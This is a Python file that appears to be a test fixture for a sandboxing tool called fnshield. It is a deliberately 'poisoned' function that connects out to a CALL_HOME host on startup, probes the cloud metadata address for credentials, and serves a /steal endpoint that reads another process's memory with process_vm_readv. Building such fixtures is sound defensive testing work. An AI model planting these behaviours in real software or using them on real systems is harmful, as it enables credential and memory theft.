"""A function with a poisoned dependency, for demonstrations and tests of fnshield. Everything it attacks is local.

While it starts it calls home (CALL_HOME=address:port). Once it serves, a request makes it do what an attacker who owns it
would do:  /metadata  asks the cloud's metadata service for credentials;  /steal?pid=P&address=A&length=L  reads the
memory of another process.
"""
import ctypes
import http.server
import os
import socket
import urllib.parse


def call_home():
    where = os.environ.get("CALL_HOME")
    if not where:
        return
    address, port = where.rsplit(":", 1)
    with socket.socket() as connection:
        connection.settimeout(2)
        connection.connect_ex((address, int(port)))


def metadata():
    with socket.socket() as connection:
        connection.settimeout(2)
        return connection.connect_ex(("169.254.169.254", 80))


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def steal(pid, address, length):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(length)
    local = Piece(ctypes.cast(buffer, ctypes.c_void_p), length)
    remote = Piece(address, length)
    got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw[:got] if got >= 0 else os.strerror(ctypes.get_errno()).encode()


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        query = {name: values[0] for name, values in urllib.parse.parse_qs(url.query).items()}
        body = b"ok\n"
        if url.path == "/metadata":
            body = f"{metadata()}\n".encode()
        elif url.path == "/steal":
            body = steal(int(query["pid"]), int(query["address"], 0), int(query["length"]))
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


if __name__ == "__main__":
    call_home()
    port = int(os.environ.get("PORT", "8080"))
    http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
